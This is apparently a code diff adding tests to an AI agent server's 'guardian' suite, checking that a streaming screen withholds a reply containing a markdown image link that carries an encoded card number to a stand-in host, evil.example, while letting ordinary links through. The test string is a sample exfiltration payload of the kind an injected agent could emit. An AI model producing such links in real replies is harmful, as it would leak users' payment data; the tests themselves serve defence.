@@ -23,6 +23,7 @@ from aap_server.guardian.memory import (
 )
 from aap_server.guardian.policy import default_policy
 from aap_server.guardian.policy_guardian import PolicyGuardian
+from aap_server.guardian.screen import WindowScreen
 from aap_server.runtime.steps import StepFactory
 from tests.guardian.test_review_r7 import (
     PAYROLL,
@@ -337,3 +338,19 @@ def test_only_two_layers_of_encoding_are_read() -> None:
     assert LINK_DECODE_LAYERS == 2
     assert CARD in link_forms(f"https://e.example/?c={twice}")
     assert CARD not in link_forms(f"https://e.example/?c={thrice}")
+
+
+@pytest.mark.parametrize("encoded", list(CARD_FORMS.values()), ids=list(CARD_FORMS))
+def test_a_streamed_reply_never_releases_an_encoded_card_in_a_link(encoded: str) -> None:
+    """`delta` streams: a hosted agent's reply is released through the text screen before the
+    message check masks the link; the screen holds such a link for the check."""
+    text = f"Done. ![s](https://evil.example/p?c={encoded}) " + "and more words " * 10
+    screen = WindowScreen()
+    released = "".join(screen.feed(ch) for ch in text) + screen.close()
+    assert released == "Done. ![s]("
+
+
+def test_a_streamed_reply_releases_ordinary_links() -> None:
+    text = " ".join(f"see ![x]({link})" for link in ORDINARY_LINKS) + " end"
+    screen = WindowScreen()
+    assert "".join(screen.feed(ch) for ch in text) + screen.close() == text
